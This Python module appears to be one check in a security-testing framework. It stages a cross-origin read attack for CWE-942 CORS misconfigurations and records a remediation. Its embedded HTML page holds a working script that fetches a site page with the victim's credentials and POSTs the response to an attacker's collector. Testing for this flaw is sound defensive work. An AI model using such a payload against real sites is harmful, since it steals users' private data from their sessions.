"""A script on the attacker's page fetches a page of the site with the victim's session.

Oracle: words that only the victim's pages show arrive at the attacker's collector.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    new_marker,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.stage import Stage
    from ringfence.prove.survey import Survey

__all__ = ["ATTACK"]


def _find(survey: Survey) -> tuple[Target, ...] | str:
    pages = survey.with_secret()
    if not pages:
        return "no page that shows the victim's name or e-mail address was found"
    return tuple(Target(page.path, f"GET {page.path}") for page in pages)


def _strike(stage: Stage, target: Target) -> Result:
    name = new_marker()
    page = f"""<!doctype html><title>Cats</title><script>
        const send = (text) => fetch({json.dumps(stage.collect_path(name))},
            {{method: "POST", body: text}});
        fetch({json.dumps(stage.url(target.path))}, {{credentials: "include"}})
            .then((answer) => answer.text())
            .then((text) => send("read:" + text), (error) => send("blocked:" + error));
        </script>"""
    mark = stage.mark()
    stage.lure(stage.attacker_page(name, page))
    loot = stage.collected(name)
    if loot is None:
        return Result(Outcome.INCONCLUSIVE, "timeout", "the attacker's page never reported")
    if stage.secret in loot:
        return Result(
            Outcome.SUCCEEDED, "read", f"{len(loot)} characters with the victim's data arrived"
        )
    return stopped_by_answer(
        stage.request_since(mark, "GET", target.path), "the browser withheld the answer"
    )


def _use(stage: Stage, target: Target) -> str | None:
    visit = stage.visit(stage.url(target.path))
    if stage.secret in visit.source or stage.secret in visit.text:
        return None
    return f"the victim does not see the page either ({visit.error or visit.status})"


ATTACK = Attack(
    name="read",
    title="cross-origin read of a page with the victim's data",
    cwe="CWE-942",
    stopped_by=("cors", "isolation", "transport"),
    find=_find,
    strike=_strike,
    use=_use,
    fix="let CORS name the origins that may read; never reflect an origin with credentials",
)
